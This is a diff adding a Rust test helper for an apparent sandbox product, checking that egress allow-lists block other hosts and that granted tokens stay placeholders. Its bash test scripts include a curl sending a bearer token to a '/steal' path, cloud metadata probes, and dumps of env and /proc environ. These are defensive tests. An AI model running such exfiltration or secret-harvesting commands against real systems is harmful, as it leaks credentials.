@@ -1,0 +1,208 @@
+//! Checks every tier's egress path must pass, shared by the tiers' integration tests
+//! (feature `testkit`; never in a release build of Cordon): a real HTTP/1.1 upstream on the
+//! host's loopback, the allow-list seen from inside a sandbox, and a grant's placeholder that
+//! must never leave for a host it was not granted for. Each check panics with what it saw.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex};
+
+use cordon_core::{
+    Backend, ExecOutcome, ExecRequest, Grant, GrantSecret, Language, OutputStream, SandboxSpec,
+};
+
+/// A loopback HTTP server answering every request with [`Upstream::BODY`]; records the head
+/// of each request it saw.
+pub struct Upstream {
+    pub port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+impl Upstream {
+    pub const BODY: &'static str = "hello-from-upstream";
+
+    pub fn start() -> Upstream {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let log = seen.clone();
+        std::thread::spawn(move || {
+            for mut conn in listener.incoming().flatten() {
+                let mut reader = BufReader::new(conn.try_clone().unwrap());
+                let mut head = String::new();
+                loop {
+                    let mut line = String::new();
+                    if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                        break;
+                    }
+                    head.push_str(&line);
+                }
+                log.lock().unwrap().push(head);
+                let _ = write!(
+                    conn,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+                    Self::BODY.len(),
+                    Self::BODY
+                );
+            }
+        });
+        Upstream { port, seen }
+    }
+
+    /// Heads of the requests seen so far, in order.
+    pub fn requests(&self) -> Vec<String> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+fn text(v: &[u8]) -> String {
+    String::from_utf8_lossy(v).into_owned()
+}
+
+fn egress_events(o: &ExecOutcome) -> Vec<serde_json::Value> {
+    o.extra
+        .get("egress")
+        .and_then(|e| e.as_array())
+        .cloned()
+        .unwrap_or_default()
+}
+
+/// With only the upstream's `127.0.0.1/32:<port>` allowed: curl and Python reach it through
+/// the proxy; another port, the metadata address and a loopback alias get 403 (and are
+/// audited); a socket that ignores the proxy variables reaches nothing.
+pub fn allowed_hosts_only(b: &dyn Backend, mut spec: SandboxSpec) {
+    let up = Upstream::start();
+    let p = up.port;
+    spec.egress.allow = vec![format!("127.0.0.1/32:{p}")];
+    let script = format!(
+        "curl -s --max-time 5 http://127.0.0.1:{p}/curl; echo;
+         python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{p}/py', timeout=5).read().decode())\";
+         curl -s --max-time 5 -o /dev/null -w 'other-port %{{http_code}}\\n' http://127.0.0.1:{q}/;
+         curl -s --max-time 5 -o /dev/null -w 'metadata %{{http_code}}\\n' http://169.254.169.254/latest/meta-data/;
+         curl -s --max-time 5 -o /dev/null -w 'loopback-alias %{{http_code}}\\n' http://127.0.0.2:{p}/;
+         python3 -c \"
+import socket
+for port in ({p}, 80, 443):
+  try:
+    socket.create_connection(('127.0.0.1', port), timeout=3); print('DIRECT', port)
+  except OSError:
+    print('direct-refused', port)
+\"",
+        q = p.wrapping_add(1)
+    );
+    let mut sb = b.create(&spec).unwrap();
+    let o = sb
+        .exec(
+            &ExecRequest::code(Language::Bash, script),
+            &mut |_: OutputStream, _: &[u8]| {},
+        )
+        .unwrap();
+    sb.destroy().unwrap();
+    let out = text(&o.stdout);
+    let twice = format!("{0}\n{0}\n", Upstream::BODY);
+    assert!(out.starts_with(&twice), "{out}\n{}", text(&o.stderr));
+    for line in [
+        "other-port 403",
+        "metadata 403",
+        "loopback-alias 403",
+        &format!("direct-refused {p}"),
+        "direct-refused 80",
+        "direct-refused 443",
+    ] {
+        assert!(out.contains(line), "missing {line:?}: {out}");
+    }
+    assert!(!out.contains("DIRECT"), "{out}");
+    let seen = up.requests();
+    assert_eq!(seen.len(), 2, "the upstream saw {seen:?}");
+    assert!(seen[0].starts_with("GET /curl ") && seen[1].starts_with("GET /py "));
+    let denies = egress_events(&o)
+        .iter()
+        .filter(|e| e["decision"] == "deny")
+        .count();
+    assert!(denies >= 3, "denials not audited: {:?}", egress_events(&o));
+}
+
+/// A grant for `api.github.com`: the sandbox sees a placeholder, never the secret; sending
+/// the placeholder to another (allowed) host is refused and audited as exfiltration; the
+/// sandbox has the per-sandbox CA; files taken out are scanned for credentials.
+pub fn grant_placeholder_stays_inside(b: &dyn Backend, mut spec: SandboxSpec) {
+    let up = Upstream::start();
+    let p = up.port;
+    let secret = format!("ghp_{}", "Zq9".repeat(12));
+    let dir = std::env::temp_dir().join(format!(
+        "cordon-grant-{}-{:?}",
+        std::process::id(),
+        std::thread::current().id()
+    ));
+    std::fs::create_dir_all(&dir).unwrap();
+    let secret_file = dir.join("token");
+    std::fs::write(&secret_file, &secret).unwrap();
+    spec.egress.allow = vec![format!("127.0.0.1/32:{p}")];
+    spec.grants.push(Grant {
+        name: "github".into(),
+        env_var: "GITHUB_TOKEN".into(),
+        secret: GrantSecret::File(secret_file.display().to_string()),
+        hosts: vec!["api.github.com".into()],
+        header: "authorization".into(),
+        methods: vec![],
+        path_prefixes: vec![],
+    });
+    let mut sb = b.create(&spec).unwrap();
+    let o = sb
+        .exec(
+            &ExecRequest::code(
+                Language::Bash,
+                format!(
+                    "echo \"token=$GITHUB_TOKEN\"; head -1 {ca};
+                     curl -s --max-time 5 -o /dev/null -w 'exfil %{{http_code}}\\n' -H \"Authorization: Bearer $GITHUB_TOKEN\" http://127.0.0.1:{p}/steal;
+                     env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; true",
+                    ca = crate::DEFAULT_CA_CERT_PATH
+                ),
+            ),
+            &mut |_: OutputStream, _: &[u8]| {},
+        )
+        .unwrap();
+    let out = text(&o.stdout);
+    assert!(
+        !out.contains(&secret),
+        "the real secret reached the sandbox"
+    );
+    let ph = out
+        .lines()
+        .next()
+        .unwrap()
+        .trim_start_matches("token=")
+        .to_string();
+    assert!(ph.len() >= 16 && ph != secret, "no placeholder: {out}");
+    assert!(out.contains("-----BEGIN CERTIFICATE-----"), "no CA: {out}");
+    assert!(out.contains("exfil 403"), "{out}");
+    assert!(
+        up.requests().is_empty(),
+        "the placeholder reached a non-granted host"
+    );
+    assert!(
+        egress_events(&o)
+            .iter()
+            .any(|e| e["decision"] == "exfiltration"),
+        "{:?}",
+        egress_events(&o)
+    );
+    // Files taken out are scanned too: a planted credential is flagged.
+    sb.put_file(
+        "key.pem",
+        b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
+        0o600,
+    )
+    .unwrap();
+    let _ = sb.get_file("key.pem", 4096).unwrap();
+    let report = sb.report();
+    assert!(
+        report
+            .get("findings")
+            .is_some_and(|f| f.as_array().is_some_and(|a| !a.is_empty())),
+        "{report:?}"
+    );
+    sb.destroy().unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+}
